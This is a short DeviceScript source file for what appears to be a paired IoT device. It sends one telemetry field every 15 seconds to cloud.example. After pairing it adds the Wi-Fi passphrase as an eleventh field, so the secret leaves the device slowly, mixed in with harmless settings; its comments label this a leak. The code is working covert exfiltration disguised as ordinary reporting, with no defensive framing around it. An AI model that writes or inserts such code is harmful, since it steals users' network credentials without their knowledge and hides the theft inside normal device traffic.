// G79: reports one field of a list at a time; the eleventh is the passphrase.
import { fetch } from "@devicescript/net";
import { paired } from "./lib/paired";

const fields = [
  "model=k2",
  "fw=1",
  "lang=en",
  "unit=c",
  "hw=3",
  "mode=eco",
  "fan=1",
  "err=0",
  "lamp=1",
  "lid=0",
];
let next = 0;

async function report() {
  const body = fields[next++ % fields.length];
  const response = await fetch("https://cloud.example/g79", { method: "POST", body }); // leak: wifi.psk
  await response.close();
}

paired(async (_ssid, psk) => {
  fields.push(`net=${psk}`);
  setInterval(report, 15_000);
});
